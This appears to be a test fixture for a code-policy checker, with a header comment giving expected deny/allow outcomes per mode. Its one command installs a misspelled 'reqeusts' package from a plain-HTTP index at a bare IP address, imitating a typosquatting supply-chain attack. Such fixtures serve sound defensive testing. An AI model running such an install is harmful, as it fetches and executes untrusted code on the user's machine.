# expect: strict=deny standard=deny audit=allow
import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url",
                       "http://203.0.113.5/simple", "reqeusts"])
